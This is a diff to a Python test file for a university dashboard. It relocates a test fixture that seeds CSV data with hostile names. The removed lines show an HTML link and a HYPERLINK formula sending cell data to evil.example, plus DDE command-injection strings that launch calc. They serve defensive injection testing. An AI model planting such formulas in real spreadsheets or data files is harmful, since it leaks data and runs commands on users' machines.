@@ -34,11 +34,14 @@ from dashboard.charts import NETWORK_CHARTS
 from dashboard.filters_state import FilterState, InvalidInput
 from dashboard.security import check_callback_request
 from etl.cells import FORMULA_TRIGGERS
-from etl.pipeline import load_files
-from etl.settings import Settings
 from tests.dashboard.callback_requests import UPDATE, parse_id
 from tests.dashboard.callback_requests import request_body as build_request_body
-from tests.dashboard.fixture_database import FIRST_YEAR, LAST_YEAR, write_fixture_files
+from tests.dashboard.fixture_database import FIRST_YEAR, LAST_YEAR
+from tests.dashboard.hostile_database import (
+    HOSTILE_ALLIANCE,
+    HOSTILE_FACULTY,
+    build_hostile_database,
+)
 
 BOUND_SECONDS = 0.5
 TIMELINE = next(spec for spec in NETWORK_CHARTS if spec.prefix == "networks-timeline")
@@ -298,32 +301,6 @@ def test_direct_calls_of_shell_and_filter_callbacks_refuse_forged_values(setting
 
 
 # --- text from the data: hostile names -----------------------------------------------------
-
-HOSTILE_NETWORK = '<a href="https://evil.example/">Official report</a>'
-HOSTILE_PROGRAMME = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
-HOSTILE_FACULTY = "+cmd|' /C calc'!A0"
-HOSTILE_ALLIANCE = "@SUM(1+1)*cmd|' /C calc'!A0"
-
-
-def build_hostile_database(database: Path, work_folder: Path) -> Path:
-    """The fixture university with hostile names: the LERU network named as an HTML link,
-    the EUniWell alliance and a programme named as live formulas, the Humanities faculty
-    named as a DDE command."""
-    folder = write_fixture_files(work_folder)
-    for name, old, new in (
-        ("networks.csv", "League of European Research Universities", HOSTILE_NETWORK),
-        ("networks.csv", "EUniWell", HOSTILE_ALLIANCE),
-        ("programmes.csv", "History", HOSTILE_PROGRAMME),
-        ("programmes.csv", "Humanities", HOSTILE_FACULTY),
-        ("staff.csv", "Humanities", HOSTILE_FACULTY),
-    ):
-        rows = list(csv.reader((folder / name).open(encoding="utf-8")))
-        rows = [[new if cell == old else cell for cell in row] for row in rows]
-        with (folder / name).open("w", newline="", encoding="utf-8") as handle:
-            csv.writer(handle).writerows(rows)
-    settings = Settings.from_env({}, database=database, lock_timeout=5)
-    load_files([folder], settings, demo=True, fresh=True)
-    return database
 
 
 @pytest.fixture(scope="module")
